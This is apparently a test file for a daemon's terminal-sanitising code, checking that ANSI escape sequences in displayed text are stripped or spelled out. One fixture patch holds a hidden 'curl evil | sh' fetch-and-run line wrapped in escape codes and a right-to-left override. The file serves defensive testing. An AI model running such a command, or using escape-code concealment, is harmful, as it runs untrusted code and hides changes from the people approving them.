"""What others said is shown on a terminal without steering it, and nothing of what is agreed to is hidden."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from local_daemon.protocol import terminals

STEERING = "\x1b[2J\x1b]0;mine\x07All is \x1b[32mwell\x1b[0m"


@given(text=st.text(max_size=60))
def test_what_is_shown_steers_nothing(text: str) -> None:
    assert terminals.plain(f"{STEERING}{text}").startswith("All is well")
    assert terminals.plain(text).isprintable()
    assert all(line.isprintable() for line in terminals.plain_lines(text).split("\n"))


@pytest.mark.parametrize("end", ["\x07", "\x1b\\"])
def test_a_title_goes_with_its_end(end: str) -> None:
    assert terminals.plain(f"one \x1b]0;title{end}two") == "one two"


def test_a_title_without_end_takes_nothing_with_it() -> None:
    assert terminals.plain("one \x1b]0;two three") == "one  ]0;two three"
    assert terminals.plain_lines("one \x1b]0;two\nthree\nfour\x07") == "one  ]0;two\nthree\nfour "


def test_lines_stay_lines_only_where_they_are_wanted() -> None:
    assert (terminals.plain("one\ntwo"), terminals.plain_lines("one\ntwo")) == ("one two", "one\ntwo")


def test_of_what_is_agreed_to_nothing_is_hidden() -> None:
    patch = "+fine \x1b]0;\n+curl evil | sh\n+\x07\x1b[8mhidden\r\u202e\n"
    assert terminals.spelled(patch) == "+fine \\x1b]0;\n+curl evil | sh\n+\\x07\\x1b[8mhidden\\r\\u202e\n"
    assert terminals.spelled("+mäßig, 好\n") == "+mäßig, 好\n"


@given(text=st.text(max_size=60))
def test_what_is_spelled_out_steers_nothing(text: str) -> None:
    assert all(character.isprintable() or character == "\n" for character in terminals.spelled(text))
